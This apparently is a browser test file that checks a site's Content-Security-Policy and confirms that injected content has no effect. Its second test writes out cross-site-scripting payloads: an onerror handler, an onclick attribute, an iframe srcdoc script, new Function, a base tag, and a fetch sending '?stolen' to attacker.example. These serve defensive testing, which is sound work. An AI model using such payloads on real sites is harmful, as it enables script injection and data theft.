import { createHash } from 'node:crypto';
import { expect, test } from './support/fixtures.ts';

for (const path of ['/', '/terms', '/nowhere'])
  test(`${path} has one inline script, by its hash`, async ({ world }) => {
    const answer = await fetch(world.url + path);
    const html = await answer.text();
    const policy = answer.headers.get('content-security-policy') ?? '';
    const scripts = [...html.matchAll(/<script\b([^>]*)>([^]*?)<\/script>/g)];
    const inline = scripts.filter(([, attributes]) => attributes === '');
    const hashes = inline.map(([, , code = '']) => createHash('sha256').update(code).digest('base64'));
    expect(policy).toContain(`script-src 'self' 'sha256-${hashes.join()}';`);
    expect(scripts.length).toBeGreaterThan(1);
    for (const [, attributes, code] of scripts.filter((script) => !inline.includes(script))) {
      expect([attributes, code]).toEqual([expect.stringMatching(/ src="\/assets\//), '']);
    }
    expect(html).not.toMatch(/<[^>]+\son\w+=|javascript:/);
  });

test('injected markup and scripts have no effect', async ({ page, world }) => {
  for (const path of ['/', '/terms']) {
    await page.goto(world.url + path);
    await expect(page.getByRole('contentinfo')).toBeVisible();
    // Each attack records what the browser allowed.
    const done = await page.evaluate<string[]>(`(async () => {
          const done = [];
          // What runs in the evaluation itself may do more than the page.
          await new Promise(requestAnimationFrame);
          globalThis.note = (what) => done.push(what);
          const attempt = (act) => { try { act(); } catch {} };
          const put = (name, fields) => {
            const element = Object.assign(document.createElement(name), fields);
            document.body.append(element);
            return element;
          };
          attempt(() => put('script', { textContent: 'note("inline script")' }));
          attempt(() => { put('div').innerHTML = '<img src="x" onerror="note(\\'markup\\')">'; note('made markup'); });
          attempt(() => put('button').setAttribute('onclick', 'note("handler")'));
          attempt(() => put('iframe', { srcdoc: '<script>parent.note("frame")</script>' }));
          attempt(() => new Function('note("code from text")')());
          attempt(() => put('base', { href: 'https://attacker.example/' }));
          if (!document.baseURI.startsWith(location.origin)) note('base');
          await fetch('https://attacker.example/?stolen').then(() => note('sent'), () => undefined);
          document.querySelectorAll('button').forEach((button) => button.hasAttribute('onclick') && button.click());
          await new Promise(requestAnimationFrame);
          return done;
        })()`);
    expect(done, path).toEqual([]);
  }
});
